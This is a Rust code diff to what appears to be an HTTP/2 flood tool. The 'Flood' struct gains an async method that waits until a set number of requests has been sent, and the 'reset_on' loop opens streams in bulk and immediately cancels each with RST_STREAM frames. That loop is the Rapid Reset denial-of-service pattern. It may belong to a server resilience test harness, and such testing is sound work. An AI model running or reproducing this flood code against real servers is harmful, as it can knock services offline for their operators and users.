@@ -4,7 +4,9 @@
 use std::net::{IpAddr, SocketAddr};
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
 
+use anyhow::Context as _;
 use tokio::io::AsyncWriteExt as _;
 use tokio::net::{TcpSocket, TcpStream};
 use tokio::task::JoinHandle;
@@ -35,9 +37,17 @@ pub struct Flood {
 }
 
 impl Flood {
-    /// How much was sent by now, in requests.
-    pub fn sent(&self) -> usize {
-        self.sent.load(Ordering::SeqCst)
+    /// Waits until so much was sent, in requests.
+    ///
+    /// # Errors
+    /// The server takes nothing any more.
+    pub async fn reaches(&self, requests: usize) -> anyhow::Result<()> {
+        let sent = async {
+            while self.sent.load(Ordering::SeqCst) < requests {
+                tokio::time::sleep(Duration::from_millis(5)).await;
+            }
+        };
+        tokio::time::timeout(Duration::from_mins(1), sent).await.context("the flood comes to nothing")
     }
 
     /// Ends it. Returns how much was sent, in requests.
@@ -75,8 +85,9 @@ async fn reset_on(mut stream: TcpStream, host: &str, sent: &AtomicUsize) {
     ]);
     let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
     bytes.extend(Frame::new(kind::SETTINGS, 0, 0, []).bytes());
-    let mut next = 1;
+    let (mut next, mut requests) = (1, 0);
     while stream.write_all(&bytes).await.is_ok() {
+        sent.fetch_add(requests, Ordering::SeqCst);
         bytes.clear();
         for number in (next..).step_by(2).take(AT_ONCE as usize) {
             bytes
@@ -84,7 +95,7 @@ async fn reset_on(mut stream: TcpStream, host: &str, sent: &AtomicUsize) {
             bytes.extend(Frame::new(kind::RESET, 0, number, [0, 0, 0, 8]).bytes());
         }
         next += 2 * AT_ONCE;
-        sent.fetch_add(AT_ONCE as usize, Ordering::SeqCst);
+        requests = AT_ONCE as usize;
     }
 }
 
